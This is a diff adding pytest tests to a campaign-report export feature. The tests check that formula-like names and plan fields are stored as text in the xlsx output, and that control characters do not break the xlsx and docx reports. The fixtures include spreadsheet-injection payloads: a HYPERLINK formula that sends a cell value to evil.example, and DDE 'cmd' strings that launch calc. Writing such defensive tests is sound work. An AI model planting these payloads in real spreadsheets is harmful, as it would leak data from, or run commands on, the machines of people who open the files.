@@ -14,6 +14,8 @@ import openpyxl
 import pytest
 
 from quantriet.campaigns import exports, services
+from quantriet.campaigns.models import BridgePoint, Campaign, ImplementationPlan
+from quantriet.orgs.models import Unit
 from tests.campaigns.conftest import Setup
 
 
@@ -115,3 +117,71 @@ def test_reports_are_for_the_organisers_only(setup: Setup) -> None:
         client = setup.world.client_for(user)
         assert client.get(f"/campaigns/{setup.campaign.pk}/report.xlsx").status_code == 404
         assert client.get(f"/campaigns/{setup.campaign.pk}/report.docx").status_code == 404
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def invited_with_a_plan(setup: Setup) -> None:
+    """Delegates at both points and XA1's plan, without check-ins (their time window is not at stake)."""
+    world = setup.world
+    setup.invite(setup.point_xa, world.m_xa1, world.m_xa2)
+    setup.invite(setup.point_xb, world.m_xb1)
+    services.submit_plan(
+        None,
+        setup.campaign,
+        world.xa1,
+        symbol="03-KH/CB",
+        issued_on=dt.date(2025, 9, 12),
+        actions_text="Quán triệt | Bí thư | 20/09/2025",
+        file_data=b"Ke hoach thuc hien",
+        file_name="kh.txt",
+    )
+
+
+def test_point_unit_and_plan_text_that_looks_like_a_formula_is_written_as_text(setup: Setup) -> None:
+    invited_with_a_plan(setup)
+    world = setup.world
+    BridgePoint.objects.filter(pk=setup.point_xa.pk).update(name=HYPERLINK)
+    Unit.objects.filter(pk=world.xa1.pk).update(name=CALC)
+    ImplementationPlan.objects.filter(unit=world.xa1).update(symbol="+1+cmd|' /C calc'!A0", comment="@A1")
+    response = world.client_for(world.alice).get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    point = book["Theo điểm cầu"]["A2"]
+    assert (point.value, point.data_type) == (HYPERLINK, "s")
+    unit = next(row for row in book["Theo đơn vị"].iter_rows() if row[0].value == CALC)
+    assert unit[0].data_type == "s"
+    plan = next(row for row in book["Kế hoạch thực hiện"].iter_rows() if row[0].value == CALC)
+    assert [(c.value, c.data_type) for c in (plan[0], plan[2], plan[6])] == [
+        (CALC, "s"),
+        ("+1+cmd|' /C calc'!A0", "s"),
+        ("@A1", "s"),
+    ]
+    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
+
+
+def test_control_characters_already_stored_or_asked_for_do_not_break_the_reports(setup: Setup) -> None:
+    invited_with_a_plan(setup)
+    world = setup.world
+    # Stored before input was cleaned (U+0001 made both reports answer 500 for everyone above).
+    Unit.objects.filter(pk__in=[world.province.pk, world.xa1.pk]).update(name="Tỉnh ủy\x01 Mẫu\x0b")
+    BridgePoint.objects.filter(pk=setup.point_xa.pk).update(name="Điểm cầu\x02 xã An Hòa")
+    Campaign.objects.filter(pk=setup.campaign.pk).update(title="Học tập\x01 Nghị quyết 35")
+    ImplementationPlan.objects.filter(unit=world.xa1).update(comment="Sửa\x1f lại")
+    client = world.client_for(world.alice)
+    workbook = client.get(f"/campaigns/{setup.campaign.pk}/report.xlsx")
+    assert workbook.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(workbook.content))
+    assert book["Theo điểm cầu"]["A2"].value == "Điểm cầu xã An Hòa"
+    report = client.get(
+        f"/campaigns/{setup.campaign.pk}/report.docx", {"number": "\x00\x01", "place": "\x01"}
+    )
+    assert report.status_code == 200
+    document = docx.Document(io.BytesIO(report.content))
+    heading = document.tables[0].rows[0].cells
+    assert heading[0].text.splitlines() == ["TỈNH ỦY MẪU", "*", "Số    -BC/TU"]
+    assert heading[1].text.splitlines()[-1].startswith("…, ngày ")
+    body = "\n".join(p.text for p in document.paragraphs)
+    assert "thực hiện: Học tập Nghị quyết 35" in body
+    assert client.get(f"/campaigns/{setup.campaign.pk}/report.docx?number=%00%01").status_code == 200
